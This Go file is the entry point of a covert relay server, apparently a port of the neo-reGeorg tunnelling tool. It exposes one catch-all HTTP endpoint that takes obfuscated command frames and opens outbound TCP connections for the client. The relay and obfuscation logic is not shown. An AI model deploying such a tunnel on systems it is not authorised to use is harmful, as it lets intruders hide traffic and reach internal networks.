// Command relay runs the covert HTTP-tunneled TCP relay server: a single
// HTTP endpoint that accepts obfuscated command frames and drives
// outbound TCP connections on the client's behalf.
package main

import (
	"io"
	"log"
	"net/http"
	"os"
	"strings"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/dianwoshishi/neo-reGeorg-go/internal/codec"
	"github.com/dianwoshishi/neo-reGeorg-go/internal/dispatch"
	"github.com/dianwoshishi/neo-reGeorg-go/internal/healthserver"
	"github.com/dianwoshishi/neo-reGeorg-go/internal/metrics"
	"github.com/dianwoshishi/neo-reGeorg-go/internal/registry"
)

func main() {
	if len(os.Args) != 2 {
		log.Fatalf("usage: %s <listen-address>", os.Args[0])
	}
	listenAddr := resolveListenAddr(os.Args[1])

	reg := prometheus.NewRegistry()
	m := metrics.New(reg)

	if healthAddr := os.Getenv("RELAY_HEALTH_ADDR"); healthAddr != "" {
		hs := healthserver.New(healthAddr, reg)
		hs.Start()
		hs.SetReady(true)
	}

	c := codec.New()
	sessions := registry.New()
	d := dispatch.New(c, sessions, m)

	log.Printf("listening on %s", listenAddr)
	if err := http.ListenAndServe(listenAddr, handler(d)); err != nil {
		log.Fatalf("server error: %v", err)
	}
}

// resolveListenAddr follows spec.md's CLI contract: a bare argument
// containing ':' is a full host:port; otherwise it is a port bound on
// every interface.
func resolveListenAddr(arg string) string {
	if strings.Contains(arg, ":") {
		return arg
	}
	return "0.0.0.0:" + arg
}

// handler matches every path and every method: the whole HTTP surface is
// one endpoint whose body carries the obfuscated command frame.
func handler(d *dispatch.Dispatcher) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := readBody(r)
		if err != nil {
			log.Printf("request body read failed: %v", err)
			body = nil
		}
		w.WriteHeader(http.StatusOK)
		_, _ = w.Write(d.Handle(body))
	})
}

func readBody(r *http.Request) ([]byte, error) {
	defer r.Body.Close()
	return io.ReadAll(r.Body)
}
